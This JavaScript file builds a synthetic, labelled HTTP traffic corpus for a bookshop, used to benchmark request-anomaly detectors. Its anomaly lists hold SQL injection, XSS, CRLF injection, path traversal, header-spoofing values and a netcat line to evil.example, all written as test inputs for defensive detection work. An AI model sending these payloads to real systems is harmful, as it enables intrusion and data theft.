// A generated, labelled traffic corpus for route-aware Guardians (docs/routes.md): a bookshop of 10
// endpoints using 25 parameter names (query, form and JSON body fields), visited by browsers, a
// mobile app and probes with their own header sets (some headers rare), behind an ingress. Normal
// traffic, and six kinds of anomaly made from normal requests: added, renamed and moved parameters,
// unknown pages, unknown headers and attack strings. Deterministic for a seed.
//
// `node bench/routes/corpus.js --out DIR [--seed N]` writes train.jsonl and test.jsonl (traffic
// traffic records as README.md describes them, with a "label" field, which guard learn / guard check ignore).
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { random } from '../core/traffic.js';

export const ANOMALY_KINDS = ['added', 'renamed', 'moved', 'unknown-page', 'unknown-header', 'attack'];

const pick = (rnd, list) => list[Math.floor(rnd() * list.length)];
const int = (rnd, lo, hi) => lo + Math.floor(rnd() * (hi - lo + 1));
const chance = (rnd, p) => rnd() < p;

function chars(rnd, alphabet, n) {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
}
const HEX = '0123456789abcdef';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const uuid = (rnd) => `${chars(rnd, HEX, 8)}-${chars(rnd, HEX, 4)}-4${chars(rnd, HEX, 3)}-a${chars(rnd, HEX, 3)}-${chars(rnd, HEX, 12)}`;
const pad2 = (n) => String(n).padStart(2, '0');
const date = (rnd) => `2024-${pad2(int(rnd, 1, 12))}-${pad2(int(rnd, 1, 28))}`;

// ---- parameter values ------------------------------------------------------------------------

const WORDS = ['harry', 'potter', 'history', 'rome', 'cooking', 'italian', 'space', 'mars', 'poems', 'love', 'war', 'peace',
  'dune', 'tolkien', 'python', 'garden', 'birds', 'ocean', 'jazz', 'chess', 'travel', 'japan', 'kids', 'dragons'];
const FIRST = ['jane', 'tom', 'ana', 'li', 'omar', 'sofia', 'max', 'eva', 'noah', 'mia'];
const CITIES = ['Berlin', 'Lyon', 'Porto', 'Leeds', 'Austin', 'Osaka', 'Turin', 'Ghent'];
const STREETS = ['Baker Street', 'Main St', 'Rue de la Paix', 'Elm Avenue', 'Hauptstrasse', 'Via Roma'];

/** The 25 parameter names, each with a generator of normal values (as text; JSON bodies convert). */
export const PARAMS = {
  q: (rnd) => Array.from({ length: int(rnd, 1, 3) }, () => pick(rnd, WORDS)).join(' ') + (chance(rnd, 0.05) ? ` ${int(rnd, 1900, 2024)}` : ''),
  page: (rnd) => String(int(rnd, 1, 40)),
  sort: (rnd) => pick(rnd, ['relevance', 'price_asc', 'price_desc', 'newest', 'rating']),
  category: (rnd) => pick(rnd, ['fiction', 'history', 'science', 'children', 'poetry', 'travel', 'cooking', 'biography']),
  lang: (rnd) => pick(rnd, ['en', 'fr', 'de', 'es', 'it']),
  format: (rnd) => pick(rnd, ['paperback', 'hardcover', 'ebook', 'audiobook']),
  limit: (rnd) => pick(rnd, ['10', '20', '50']),
  order: (rnd) => pick(rnd, ['newest', 'oldest', 'helpful', 'rating']),
  include: (rnd) => pick(rnd, ['bio', 'books', 'bio,books']),
  status: (rnd) => pick(rnd, ['open', 'shipped', 'delivered', 'cancelled']),
  since: (rnd) => date(rnd),
  book_id: (rnd) => int(rnd, 1, 50000),
  quantity: (rnd) => int(rnd, 1, 5),
  gift_wrap: (rnd) => chance(rnd, 0.5),
  username: (rnd) => pick(rnd, FIRST) + (chance(rnd, 0.6) ? String(int(rnd, 1, 999)) : ''),
  password: (rnd) => chars(rnd, `${ALNUM}!@#$%^&*`, int(rnd, 10, 16)),
  remember: () => 'on',
  'address:street': (rnd) => `${int(rnd, 1, 250)} ${pick(rnd, STREETS)}`,
  'address:city': (rnd) => pick(rnd, CITIES),
  'address:zip': (rnd) => String(int(rnd, 10000, 99999)),
  payment_token: (rnd) => `tok_${chars(rnd, ALNUM, 24)}`,
  coupon: (rnd) => pick(rnd, ['SPRING24', 'WELCOME10', 'BOOKWORM', 'FREESHIP']),
  display_name: (rnd) => `${pick(rnd, FIRST)[0].toUpperCase()}${pick(rnd, FIRST).slice(1)} ${String.fromCharCode(65 + int(rnd, 0, 25))}.`,
  email: (rnd) => `${pick(rnd, FIRST)}${int(rnd, 1, 99)}@${pick(rnd, ['mail.example', 'post.example', 'inbox.example'])}.com`,
  newsletter: (rnd) => chance(rnd, 0.5),
};

// ---- endpoints -------------------------------------------------------------------------------

const id = (rnd) => String(int(rnd, 1, 50000));

/**
 * The 10 endpoints: method, path maker, where parameters go (query, form or json) and each
 * parameter with the probability that a request carries it.
 */
export const ENDPOINTS = [
  { name: 'home', method: 'GET', weight: 10, path: () => '/', where: 'query', params: {} },
  { name: 'search', method: 'GET', weight: 20, path: () => '/search', where: 'query', params: { q: 1, page: 0.4, sort: 0.3, category: 0.25 } },
  { name: 'book', method: 'GET', weight: 25, path: (rnd) => `/books/${id(rnd)}`, where: 'query', params: { lang: 0.2, format: 0.15 } },
  { name: 'reviews', method: 'GET', weight: 10, path: (rnd) => `/books/${id(rnd)}/reviews`, where: 'query', params: { page: 0.5, limit: 0.4, order: 0.3 } },
  { name: 'author', method: 'GET', weight: 5, path: (rnd) => `/authors/${id(rnd)}`, where: 'query', params: { include: 0.3 } },
  { name: 'cart', method: 'POST', weight: 8, path: () => '/cart', where: 'json', params: { book_id: 1, quantity: 1, gift_wrap: 0.3 } },
  { name: 'login', method: 'POST', weight: 4, path: () => '/login', where: 'form', params: { username: 1, password: 1, remember: 0.4 } },
  { name: 'checkout', method: 'POST', weight: 3, path: () => '/checkout', where: 'json', params: { 'address:street': 1, 'address:city': 1, 'address:zip': 1, payment_token: 1, coupon: 0.15 } },
  { name: 'orders', method: 'GET', weight: 5, path: () => '/account/orders', where: 'query', params: { status: 0.5, since: 0.3 } },
  { name: 'profile', method: 'PUT', weight: 2, path: () => '/account/profile', where: 'json', params: { display_name: 0.7, email: 0.5, newsletter: 0.5 } },
];
const TOTAL_WEIGHT = ENDPOINTS.reduce((n, e) => n + e.weight, 0);

/** @param {() => number} rnd @param {(e: typeof ENDPOINTS[number]) => boolean} [filter] */
function pickEndpoint(rnd, filter = (_e) => true) {
  for (;;) {
    let r = rnd() * TOTAL_WEIGHT;
    for (const e of ENDPOINTS) {
      r -= e.weight;
      if (r < 0) {
        if (filter(e)) return e;
        break;
      }
    }
  }
}

// ---- clients and their headers ---------------------------------------------------------------

const CHROME_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const FIREFOX_UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';
const SAFARI_UA = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15';
const LANGUAGES = ['en-US,en;q=0.9', 'en-GB,en;q=0.8', 'de-DE,de;q=0.9,en;q=0.5', 'fr-FR,fr;q=0.9,en;q=0.4', 'es-ES,es;q=0.9'];
const NAV_ACCEPT = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8';

/** Clients with their share of traffic and the headers they send. */
const CLIENTS = [
  { name: 'chrome', share: 0.45, browser: true },
  { name: 'firefox', share: 0.2, browser: true },
  { name: 'safari', share: 0.15, browser: true },
  { name: 'app', share: 0.15, browser: false },
  { name: 'probe', share: 0.05, browser: false },
];

function pickClient(rnd) {
  let r = rnd();
  for (const c of CLIENTS) {
    r -= c.share;
    if (r < 0) return c;
  }
  return CLIENTS[0];
}

function browserHeaders(rnd, client, nav, h) {
  const ua = client.name === 'chrome' ? CHROME_UA : client.name === 'firefox' ? FIREFOX_UA : SAFARI_UA;
  h.push(['User-Agent', ua]);
  h.push(['Accept', nav ? NAV_ACCEPT : 'application/json, text/plain, */*']);
  h.push(['Accept-Language', pick(rnd, LANGUAGES)]);
  h.push(['Accept-Encoding', client.name === 'chrome' ? 'gzip, deflate, br, zstd' : 'gzip, deflate, br']);
  if (client.name === 'chrome') {
    h.push(['Sec-Ch-Ua', '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"']);
    h.push(['Sec-Ch-Ua-Mobile', chance(rnd, 0.3) ? '?1' : '?0']);
    h.push(['Sec-Ch-Ua-Platform', pick(rnd, ['"Windows"', '"macOS"', '"Android"', '"Linux"'])]);
  }
  h.push(['Sec-Fetch-Site', nav ? pick(rnd, ['none', 'same-origin']) : 'same-origin']);
  h.push(['Sec-Fetch-Mode', nav ? 'navigate' : 'cors']);
  h.push(['Sec-Fetch-Dest', nav ? 'document' : 'empty']);
  if (nav) {
    h.push(['Sec-Fetch-User', '?1']);
    h.push(['Upgrade-Insecure-Requests', '1']);
  }
  if (client.name !== 'safari') h.push(['Priority', nav ? 'u=0, i' : 'u=1, i']);
  if (client.name === 'firefox') {
    if (chance(rnd, 0.25)) h.push(['Dnt', '1']);
    if (chance(rnd, 0.15)) h.push(['Sec-Gpc', '1']);
  }
  if (chance(rnd, 0.6)) h.push(['Cookie', `session=${chars(rnd, HEX, 32)}; theme=${pick(rnd, ['dark', 'light'])}`]);
  if (chance(rnd, 0.7)) h.push(['Referer', `https://books.example.com/${pick(rnd, ['', 'search?q=' + pick(rnd, WORDS), 'books/' + id(rnd)])}`]);
}

/** @type {Array<[string, string, number]>} */
const RARE_HEADERS = [
  ['Sec-Purpose', 'prefetch', 2e-3], ['Accept-Charset', 'utf-8', 1e-3], ['X-Forwarded-Port', '443', 1e-3],
  ['Device-Memory', '8', 5e-4], ['Downlink', '10', 5e-4], ['Ect', '4g', 5e-4], ['Rtt', '50', 3e-4],
  ['Viewport-Width', '1280', 3e-4], ['Sec-Ch-Prefers-Color-Scheme', 'dark', 2e-4], ['X-Wap-Profile', 'http://wap.example/p.xml', 1e-4],
  ['Early-Data', '1', 1e-4], ['Max-Forwards', '10', 1e-4], ['X-Att-Deviceid', 'SM-G991B', 6e-5], ['X-Moz', 'prefetch', 6e-5],
  ['Sec-Ch-Ua-Arch', '"x86"', 6e-5], ['Sec-Ch-Ua-Model', '""', 6e-5], ['Sec-Ch-Ua-Bitness', '"64"', 5e-5],
  ['Sec-Ch-Ua-Full-Version', '"124.0.6367.91"', 5e-5], ['Sec-Ch-Viewport-Width', '1280', 5e-5], ['Sec-Ch-Dpr', '2', 5e-5],
  ['X-Ucbrowser-Ua', 'pf(Linux);la(en-US)', 4e-5], ['X-Operamini-Phone-Ua', 'Mozilla/5.0', 4e-5], ['X-Nokia-Gateway-Id', 'NWG/4.1', 3e-5],
  ['Accept-Datetime', 'Thu, 31 May 2007 20:35:00 GMT', 3e-5], ['A-Im', 'feed', 3e-5], ['X-Pinterest-Bot', 'yes', 3e-5],
  ['X-Purpose', 'preview', 3e-5], ['Http2-Settings', 'AAMAAABkAARAAAAA', 3e-5], ['X-Do-Not-Track', '1', 2e-5], ['Surrogate-Capability', 'abc=ESI/1.0', 2e-5],
];

function clientHeaders(rnd, client, endpoint) {
  const h = [['Host', 'books.example.com']];
  if (client.browser) browserHeaders(rnd, client, endpoint.method === 'GET' && endpoint.name !== 'orders', h);
  else if (client.name === 'app') {
    h.push(['User-Agent', `BookshopApp/4.${int(rnd, 0, 3)}.${int(rnd, 0, 9)} (Android ${int(rnd, 11, 14)})`]);
    h.push(['Accept', 'application/json']);
    h.push(['Accept-Encoding', 'gzip']);
    h.push(['Authorization', `Bearer ${chars(rnd, ALNUM, 40)}`]);
    h.push(['X-App-Version', `4.${int(rnd, 0, 3)}.${int(rnd, 0, 9)}`]);
    h.push(['X-Device-Id', uuid(rnd)]);
  } else {
    h.push(['User-Agent', pick(rnd, ['curl/8.5.0', 'kube-probe/1.29', 'Uptime-Kuma/1.23.11'])]);
    h.push(['Accept', '*/*']);
  }
  // Conditional and cache headers, some rare.
  if (endpoint.method === 'GET') {
    if (chance(rnd, 0.1)) h.push(['If-None-Match', `W/"${chars(rnd, HEX, 16)}"`]);
    if (chance(rnd, 0.03)) h.push(['If-Modified-Since', 'Wed, 21 Oct 2024 07:28:00 GMT']);
    if (chance(rnd, 0.04)) h.push(['Cache-Control', 'max-age=0']);
    if (chance(rnd, 0.01)) h.push(['Pragma', 'no-cache']);
    if (client.browser && chance(rnd, 0.005)) h.push(['Purpose', 'prefetch']);
  }
  if (chance(rnd, 0.003)) h.push(['Save-Data', 'on']);
  if (chance(rnd, 0.005)) h.push(['Via', '1.1 proxy.corp.example']);
  // The long tail of legitimate headers that real traffic carries now and then: some are seen in
  // training, some only later (a header-name check pays for those in false positives).
  for (const [name, value, p] of RARE_HEADERS) if (chance(rnd, p)) h.push([name, value]);
  // What the ingress adds.
  h.push(['X-Forwarded-For', `${int(rnd, 11, 223)}.${int(rnd, 0, 255)}.${int(rnd, 0, 255)}.${int(rnd, 1, 254)}`]);
  h.push(['X-Forwarded-Proto', 'https']);
  h.push(['X-Request-Id', uuid(rnd)]);
  return h;
}

// ---- requests --------------------------------------------------------------------------------

const enc = (s) => encodeURIComponent(s).replace(/%20/g, '+');

/** A request's parameters as [name, value] pairs (values as generated: text, number or boolean). */
function normalParams(rnd, endpoint) {
  const out = [];
  for (const [name, p] of Object.entries(endpoint.params)) if (chance(rnd, p)) out.push([name, PARAMS[name](rnd)]);
  return out;
}

/** Put parameters where the endpoint takes them; returns the traffic record. */
function build(rnd, endpoint, params, headers, path = endpoint.path(rnd), where = endpoint.where, extraQuery = []) {
  const rec = { method: endpoint.method, path, query: '', headers, remote: '10.0.0.5' };
  const query = [...(where === 'query' ? params : []), ...extraQuery];
  rec.query = query.map(([k, v]) => `${enc(k)}=${enc(String(v))}`).join('&');
  if (where === 'json') {
    const body = {};
    for (const [k, v] of params) {
      const parts = k.split(':');
      let o = body;
      for (let i = 0; i < parts.length - 1; i++) o = o[parts[i]] ??= {};
      o[parts[parts.length - 1]] = v;
    }
    rec.body = JSON.stringify(body);
    headers.push(['Content-Type', 'application/json']);
  } else if (where === 'form') {
    rec.body = params.map(([k, v]) => `${enc(k)}=${enc(String(v))}`).join('&');
    headers.push(['Content-Type', 'application/x-www-form-urlencoded']);
  }
  if (rec.body !== undefined) {
    headers.push(['Content-Length', String(Buffer.byteLength(rec.body))]);
    if (headers.some(([n]) => n === 'Sec-Fetch-Mode')) {
      headers.push(['Origin', 'https://books.example.com']);
      headers.push(['X-Csrf-Token', chars(rnd, HEX, 32)]);
      if (chance(rnd, 0.3)) headers.push(['X-Requested-With', 'XMLHttpRequest']);
    }
  }
  return rec;
}

function normalRequest(rnd, endpoint = pickEndpoint(rnd)) {
  return build(rnd, endpoint, normalParams(rnd, endpoint), clientHeaders(rnd, pickClient(rnd), endpoint));
}

// ---- anomalies -------------------------------------------------------------------------------

const ADDED = ['debug', 'admin', 'test', 'role', 'is_admin', 'callback', 'redirect', 'next', 'return_to', '_method', 'preview',
  'mode', 'token', 'key', 'sig', 'cmd', 'file', 'template', 'internal', 'override'];
const ADDED_VALUES = ['1', 'true', 'yes', 'on', 'admin', 'full', 'x', 'raw'];
const RENAMED = {
  q: 'query', page: 'pg', sort: 'sort_by', category: 'cat', lang: 'language', format: 'fmt', limit: 'per_page', order: 'order_by',
  include: 'with', status: 'state', since: 'from', book_id: 'bookId', quantity: 'qty', gift_wrap: 'giftwrap', username: 'user',
  password: 'pass', remember: 'remember_me', 'address:street': 'address:line1', 'address:city': 'address:town',
  'address:zip': 'address:postcode', payment_token: 'token', coupon: 'promo', display_name: 'name', email: 'mail', newsletter: 'subscribe',
};
const UNKNOWN_PAGES = [
  ['GET', '/admin'], ['GET', '/admin/users'], ['GET', '/backup'], ['GET', '/debug'], ['GET', '/debug/vars'], ['GET', '/internal/metrics'],
  ['GET', '/console'], ['GET', '/server-status'], ['GET', '/actuator/env'], ['GET', '/config'], ['GET', '/books/{id}/edit'],
  ['POST', '/books/{id}/delete'], ['POST', '/account/delete'], ['GET', '/account/export'], ['GET', '/search/advanced'],
  ['DELETE', '/books/{id}'], ['PUT', '/books/{id}'], ['POST', '/search'], ['GET', '/cart'], ['GET', '/checkout'], ['DELETE', '/account/profile'],
];
const UNKNOWN_HEADERS = [
  ['X-Method-Override', 'DELETE'], ['X-Http-Method-Override', 'PUT'], ['X-Original-Url', '/admin'], ['X-Rewrite-Url', '/admin'],
  ['X-Forwarded-Host', 'evil.example'], ['X-Forwarded-Server', 'internal'], ['X-Debug', '1'], ['X-Debug-Mode', 'true'],
  ['X-Custom-Ip-Authorization', '127.0.0.1'], ['True-Client-Ip', '127.0.0.1'], ['X-Real-Ip', '127.0.0.1'], ['X-Client-Ip', '10.0.0.1'],
  ['Forwarded', 'for=127.0.0.1'], ['X-Host', 'localhost'], ['X-Admin', 'true'], ['X-Role', 'admin'],
];
const ATTACKS = [
  "' OR '1'='1", '1 UNION SELECT password FROM users--', '1; DROP TABLE books', "admin'--",
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)',
  'x\r\nSet-Cookie: admin=1', 'en\r\nLocation: https://evil.example',
  '; cat /etc/passwd', '| nc evil.example 4444', '$(whoami)', '`id`', '../../../../etc/passwd',
];

/** An anomaly of `kind` made from a normal request. */
function anomalousRequest(rnd, kind) {
  const withParams = (e) => Object.keys(e.params).length > 0;
  switch (kind) {
    case 'added': {
      const e = pickEndpoint(rnd);
      const params = normalParams(rnd, e);
      params.splice(int(rnd, 0, params.length), 0, [pick(rnd, ADDED), pick(rnd, ADDED_VALUES)]);
      return build(rnd, e, params, clientHeaders(rnd, pickClient(rnd), e));
    }
    case 'renamed': {
      const e = pickEndpoint(rnd, withParams);
      let params = normalParams(rnd, e);
      if (params.length === 0) params = [[Object.keys(e.params)[0], PARAMS[Object.keys(e.params)[0]](rnd)]];
      const i = int(rnd, 0, params.length - 1);
      params[i] = [RENAMED[params[i][0]], params[i][1]];
      return build(rnd, e, params, clientHeaders(rnd, pickClient(rnd), e));
    }
    case 'moved': {
      const e = pickEndpoint(rnd);
      const params = normalParams(rnd, e);
      const headers = clientHeaders(rnd, pickClient(rnd), e);
      if (e.where !== 'query' && params.length > 0 && chance(rnd, 0.5)) {
        // A body field sent in the query instead (credentials in the URL, …).
        const moved = params.splice(int(rnd, 0, params.length - 1), 1);
        return build(rnd, e, params, headers, e.path(rnd), e.where, moved);
      }
      // A parameter of another endpoint, with a value of its own kind (mass assignment, …).
      const others = Object.keys(PARAMS).filter((n) => !(n in e.params) && !n.startsWith('address:'));
      const name = pick(rnd, others);
      params.push([name, PARAMS[name](rnd)]);
      return build(rnd, e, params, headers);
    }
    case 'unknown-page': {
      const [method, template] = pick(rnd, UNKNOWN_PAGES);
      const e = { name: 'unknown', method, where: method === 'GET' || method === 'DELETE' ? 'query' : 'json', params: {} };
      const path = template.replace('{id}', id(rnd));
      return build(rnd, e, [], clientHeaders(rnd, pickClient(rnd), e), path);
    }
    case 'unknown-header': {
      const e = pickEndpoint(rnd);
      const headers = clientHeaders(rnd, pickClient(rnd), e);
      headers.splice(int(rnd, 1, headers.length), 0, pick(rnd, UNKNOWN_HEADERS));
      return build(rnd, e, normalParams(rnd, e), headers);
    }
    case 'attack': {
      const e = pickEndpoint(rnd, withParams);
      let params = normalParams(rnd, e);
      if (params.length === 0) params = [[Object.keys(e.params)[0], PARAMS[Object.keys(e.params)[0]](rnd)]];
      const i = int(rnd, 0, params.length - 1);
      params[i] = [params[i][0], `${typeof params[i][1] === 'string' ? params[i][1] : ''}${pick(rnd, ATTACKS)}`];
      return build(rnd, e, params, clientHeaders(rnd, pickClient(rnd), e));
    }
    default:
      throw new Error(`unknown anomaly kind ${kind}`);
  }
}

/**
 * The corpus: `train` normal records (what is learned), and `test`, labelled records — `normal`
 * fresh normal ones, then `perKind` of each anomaly kind. Paths carry ids from 1 to 50,000, so most
 * ids of the test set were never seen in training.
 */
export function generateCorpus({ seed = 15, train = 20000, normal = 20000, perKind = 500 } = {}) {
  const rnd = random(seed);
  const trainSet = Array.from({ length: train }, () => normalRequest(rnd));
  const test = Array.from({ length: normal }, () => ({ label: 'normal', record: normalRequest(rnd) }));
  for (const kind of ANOMALY_KINDS) for (let i = 0; i < perKind; i++) test.push({ label: kind, record: anomalousRequest(rnd, kind) });
  return { train: trainSet, test };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const { values } = parseArgs({ options: { out: { type: 'string' }, seed: { type: 'string' } } });
  if (!values.out) {
    console.error('usage: node bench/routes/corpus.js --out DIR [--seed N]');
    process.exit(2);
  }
  const { train, test } = generateCorpus({ seed: values.seed ? Number(values.seed) : 15 });
  mkdirSync(values.out, { recursive: true });
  writeFileSync(join(values.out, 'train.jsonl'), train.map((r) => JSON.stringify({ ...r, label: 'normal' })).join('\n') + '\n');
  writeFileSync(join(values.out, 'test.jsonl'), test.map((t) => JSON.stringify({ ...t.record, label: t.label })).join('\n') + '\n');
  console.log(`wrote ${train.length} training and ${test.length} test records to ${values.out}`);
}
